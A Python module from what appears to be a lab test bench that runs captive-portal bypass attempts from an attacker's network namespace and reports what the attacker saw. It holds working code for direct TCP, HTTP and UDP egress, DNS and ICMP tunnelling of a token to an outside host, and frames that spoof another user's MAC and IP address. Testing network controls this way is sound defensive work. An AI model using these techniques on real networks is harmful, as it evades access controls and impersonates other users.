"""The bypass attempts themselves, each run from inside the attacker's namespace. Each returns
what the attacker saw; whether it got through is the ground witness's call (bench.traffic.bypass).
"""

from __future__ import annotations

import socket
import struct
import time

from bench.lab import netns
from bench.traffic.bypass import OUTSIDE_HOST, OUTSIDE_RESOLVER, TUNNEL_DOMAIN
from bench.traffic.dns import dns_query, dns_rcode_and_answers


def direct_tcp(ns: str, token: str, port: int = 443) -> str:
    def go() -> str:
        try:
            with socket.create_connection((OUTSIDE_HOST, port), timeout=3) as s:
                s.sendall(token.encode())
                return f"connected, got {s.recv(256)!r}"
        except OSError as exc:
            return f"refused: {exc}"

    return netns.run_in(ns, go)


def direct_http(ns: str, token: str) -> str:
    """An HTTP request to a ground host by its address (no name to resolve, no portal asked)."""

    def go() -> str:
        try:
            with socket.create_connection((OUTSIDE_HOST, 80), timeout=3) as s:
                s.sendall(f"GET /{token} HTTP/1.1\r\nHost: {OUTSIDE_HOST}\r\nConnection: close\r\n\r\n".encode())
                return f"answered {s.recv(256)[:80]!r}"
        except OSError as exc:
            return f"refused: {exc}"

    return netns.run_in(ns, go)


def direct_udp(ns: str, token: str, port: int = 443) -> str:
    def go() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            try:
                s.sendto(token.encode(), (OUTSIDE_HOST, port))
                return f"answer {s.recv(256)!r}"
            except OSError as exc:
                return f"no answer: {exc}"

    return netns.run_in(ns, go)


def dns_to_outside(ns: str, token: str) -> str:
    def go() -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            try:
                s.sendto(dns_query(f"{token}.example.com"), (OUTSIDE_RESOLVER, 53))
                rcode, answers = dns_rcode_and_answers(s.recv(2048))
                return f"answered: rcode {rcode}, {answers} answers"
            except OSError as exc:
                return f"no answer: {exc}"

    return netns.run_in(ns, go)


def dns_tunnel(ns: str, token: str, resolver: str, count: int = 50) -> str:
    """`count` TXT queries for <token>-<i>.<TUNNEL_DOMAIN> through `resolver` (the router's): a
    tunnel needs the resolver to forward them to the zone's authoritative server on the ground."""

    def go() -> str:
        answered, with_data = 0, 0
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            for i in range(count):
                try:
                    s.sendto(dns_query(f"{token}-{i:03d}.{TUNNEL_DOMAIN}", qtype=16), (resolver, 53))
                    rcode, answers = dns_rcode_and_answers(s.recv(2048))
                    answered += 1
                    with_data += answers > 0 and rcode == 0
                except OSError:
                    pass
        return f"{answered} of {count} answered by the resolver, {with_data} with data"

    return netns.run_in(ns, go)


def icmp_tunnel(ns: str, token: str, count: int = 20) -> str:
    """Echo requests carrying data to a ground host (what ICMP tunnels such as ptunnel do)."""

    def go() -> str:
        replies = 0
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
            s.settimeout(0.3)
            ident = int.from_bytes(token.encode()[-2:], "big")
            for seq in range(count):
                payload = f"{token}:{seq:04d}:".encode() + b"x" * 200
                header = struct.pack(">BBHHH", 8, 0, 0, ident, seq)
                packet = header[:2] + struct.pack(">H", _checksum(header + payload)) + header[4:] + payload
                s.sendto(packet, (OUTSIDE_HOST, 0))
                deadline = time.monotonic() + 0.3
                while time.monotonic() < deadline:
                    try:
                        data = s.recv(2048)
                    except OSError:
                        break
                    icmp = data[(data[0] & 0x0F) * 4:]
                    if icmp[0] == 0 and token.encode() in icmp:
                        replies += 1
                        break
        return f"{replies} of {count} echo replies"

    return netns.run_in(ns, go)


def spoofed_udp(ns: str, ifname: str, token: str, *, src_mac: str, src_ip: str, dst_mac: str, port: int = 443) -> str:
    """One UDP datagram to the outside host in a hand-built Ethernet frame: source MAC and IP as
    given (another passenger's), sent from the attacker's own interface (AF_PACKET)."""

    def go() -> str:
        payload = token.encode()
        udp = struct.pack(">HHHH", 40000, port, 8 + len(payload), 0) + payload
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x1234, 0x4000, 64, 17, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(OUTSIDE_HOST))
        ip = ip[:10] + struct.pack(">H", _checksum(ip)) + ip[12:]
        frame = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00" + ip + udp
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
            s.bind((ifname, 0))
            for _ in range(3):
                s.send(frame)
                time.sleep(0.05)
        return f"3 frames from {src_mac} / {src_ip}"

    return netns.run_in(ns, go)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
